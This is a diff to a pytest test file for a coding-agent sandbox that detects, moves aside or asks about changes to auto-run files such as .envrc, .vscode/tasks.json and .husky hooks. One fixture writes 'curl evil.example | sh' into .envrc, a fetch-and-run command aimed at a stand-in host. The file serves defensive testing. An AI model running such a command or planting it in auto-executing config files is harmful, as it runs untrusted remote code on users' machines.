@@ -11,6 +11,7 @@ import pytest
 
 from tests.sandbox import wait_for
 from tests.session.fake_agent import calls, says
+from workbench.config.locations import Locations
 from workbench.files.root_directory import Root
 from workbench.files.stat_keys import stat_key
 from workbench.files.state_files import replace_file
@@ -18,7 +19,7 @@ from workbench.protocol.events import FileDelta
 from workbench.risk.protected_changes import changes
 from workbench.risk.protected_files import ProtectedFiles
 from workbench.risk.protected_state import PathChange, PathState
-from workbench.session.actions.integrity import restore_protected
+from workbench.sandbox.set_aside import restore_protected, undo, undoable
 from workbench.tools import BashTool
 from workbench.tools.execute_ipython_cell.definition import IPythonTool
 from workbench.tools.tool import ToolDefinition
@@ -233,12 +234,10 @@ def test_restored_file_has_its_content_mode_and_link_and_the_other_is_kept(watch
     one.session.send("go")
     one.run()
     assert standing(repo, home) == before
-    assert list((repo / ".vscode/sub").iterdir()) == []
+    assert not (repo / ".vscode/sub").exists()
     assert (theirs / "precious").read_text() == "precious"
-    marks_kept = {
-        path.read_text() if not path.is_symlink() else "link" for path in (repo.parent / "state/put-back").iterdir()
-    }
-    assert marks_kept == {"evil", "more", "link"}
+    saved = [path for path in (repo.parent / "state/put-back").rglob("*") if not path.is_dir() or path.is_symlink()]
+    assert {path.read_text() if not path.is_symlink() else "link" for path in saved} == {"evil", "more", "link"}
     assert all(word in notices_of(one) for word in ("(content)", "(link)", "(new)", "saved in"))
     assert "so that the user is asked" in observed_text(one)
 
@@ -468,9 +467,8 @@ def test_nested_repositories_of_the_workspace_are_compared(harness, repo, home, 
     one.session.send("go")
     one.run()
     tool.close()
-    # only files in the workspace are restored
-    assert target.exists() == (kind != "submodule")
-    assert ("put back" if kind == "submodule" else "next action is asked about") in notices_of(one)
+    assert not target.exists()
+    assert "moved aside" in notices_of(one)
 
 
 def test_change_with_the_same_size_and_time_is_detected(tmp_path, home):
@@ -511,8 +509,8 @@ def test_nothing_is_restored_through_a_link_or_outside_the_workspace(tmp_path, b
     (theirs / "precious").write_text("precious")
     (work / ".vscode").symlink_to(theirs)
     root, now = Root.at(work), everything_in(tmp_path)
-    assert not restore_protected(change_of(work / name, before), root, aside / "x")
-    assert not restore_protected(change_of(theirs / "precious", before), root, aside / "x")
+    assert not restore_protected(change_of(work / name, before), [root], aside / "x").is_done
+    assert not restore_protected(change_of(theirs / "precious", before), [root], aside / "x").is_done
     assert everything_in(tmp_path) == now
 
 
@@ -523,7 +521,7 @@ def test_file_changed_once_more_is_not_restored(tmp_path):
     (work / ".envrc").write_text("evil")
     change = change_of(work / ".envrc", "old")
     (work / ".envrc").write_text("the user's own")
-    assert not restore_protected(change, Root.at(work), aside / "x")
+    assert not restore_protected(change, [Root.at(work)], aside / "x").is_done
     assert (work / ".envrc").read_text() == "the user's own"
 
 
@@ -535,7 +533,7 @@ def test_nothing_is_restored_in_a_directory_that_replaced_the_workspace(tmp_path
     work.rename(tmp_path / "old")
     work.mkdir()
     (work / ".envrc").write_text("evil")
-    assert not restore_protected(change_of(work / ".envrc", None), root, aside / "x")
+    assert not restore_protected(change_of(work / ".envrc", None), [root], aside / "x").is_done
     assert (work / ".envrc").exists()
 
 
@@ -568,6 +566,20 @@ def test_nothing_is_restored_in_the_home_directory_even_as_workspace(harness, ho
     assert "next action is asked about" in notices_of(one)
 
 
+def test_our_own_logs_are_not_reported_where_the_home_directory_is_the_workspace(harness, home):
+    log = Locations.from_environment().state / "engine.log"
+    log.parent.mkdir(parents=True)
+    log.write_text("started")
+    one = harness(calls(("execute_bash", {"command": "touch created"})), says("done"), mode="never", workspace=home)
+    one.hook = lambda event: log.write_text(event.kind)
+    with BashTool(working_dir=str(home)) as tool:
+        one.tools["execute_bash"] = tool
+        one.session.send("go")
+        one.run()
+    assert (home / "created").exists()
+    assert not notices_of(one)
+
+
 def test_hooks_behind_a_new_link_are_restored_and_its_target_stays(watched, repo, home, tmp_path):
     outside = tmp_path / "outside"
     outside.mkdir()
@@ -596,12 +608,70 @@ def test_scan_without_changes_reads_no_file_and_lists_no_directory(repo, home, m
     assert changes(before, protected.scan()) == []
 
 
+MANY = """
+import os
+os.makedirs('.hus' + 'ky', exist_ok=True)
+for n in range(30):
+    open('.hus' + f'ky/{n}', 'w').write('x')
+"""
+
+
 def test_too_many_changes_are_asked_about_instead_of_restored(watched, repo, home):
-    many = "import os\nos.makedirs('.hus' + 'ky')\nfor n in range(30):\n    open('.hus' + f'ky/{n}', 'w').write('x')\n"
-    (repo / "m.py").write_text(many)
+    (repo / "m.py").write_text(MANY)
+    (repo / ".husky").mkdir()
+    for n in range(30):
+        (repo / ".husky" / str(n)).write_text("mine")
     one = watched(calls(("execute_bash", {"command": "python3 m.py"})), calls(("execute_bash", {"command": "true"})))
     one.session.send("go")
     one.run()
-    assert len(list((repo / ".husky").iterdir())) == 30
+    assert {path.read_text() for path in (repo / ".husky").iterdir()} == {"x"}
     assert one.session.question is not None
     assert "next action is asked about" in notices_of(one)
+
+
+def test_a_new_directory_is_moved_aside_as_a_whole(watched, repo, home):
+    (repo / "m.py").write_text(MANY)
+    one = watched(calls(("execute_bash", {"command": "python3 m.py"})), says("done"))
+    one.session.send("go")
+    one.run()
+    assert one.session.ended
+    assert not (repo / ".husky").exists()
+    [saved] = (repo.parent / "state/put-back").iterdir()
+    assert len(list(saved.iterdir())) == 30
+    assert "and 26 more files, which no question showed, and moved aside" in notices_of(one)
+    assert "moved aside" in observed_text(one)
+
+
+def test_what_a_process_in_the_background_makes_during_the_undoing_is_asked_about(watched, repo, home, monkeypatch):
+    def undone(*arguments):
+        moved = undo(*arguments)
+        (repo / ".envrc").write_text("curl evil.example | sh")
+        return moved
+
+    monkeypatch.setattr("workbench.session.actions.integrity.undo", undone)
+    (repo / "m.py").write_text(MANY)
+    one = watched(calls(("execute_bash", {"command": "python3 m.py"})), calls(("execute_bash", {"command": "true"})))
+    one.session.send("go")
+    one.run()
+    assert not (repo / ".husky").exists()
+    assert ".envrc (new), which no question showed; the next action is asked about" in notices_of(one)
+    assert any(".envrc" in reason for reason in one.session.question.assessed.reasons)
+
+
+@pytest.mark.parametrize(
+    ("made", "is_repository"),
+    [
+        ("mkdir new; touch new/.git", False),
+        ("mkdir -p new/.git/objects", False),
+        ("mkdir new; echo 'gitdir: ..' > new/.git", False),
+        ("git init -q new", True),
+        ("git worktree add -q --no-checkout --detach new", True),
+    ],
+)
+def test_only_files_of_a_real_repository_in_a_new_directory_stay(repo, home, made, is_repository):
+    protected = ProtectedFiles(str(repo), str(home))
+    before = protected.scan()
+    script = f"{made} && mkdir new/.vscode && echo evil > new/.vscode/tasks.json"
+    subprocess.run(["sh", "-c", script], cwd=repo, check=True, capture_output=True)
+    [change] = [each for each in changes(before, protected.scan()) if each.path.endswith("new/.vscode/tasks.json")]
+    assert undoable([change], before, [Root.at(repo)], str(repo)) == ([] if is_repository else [change])
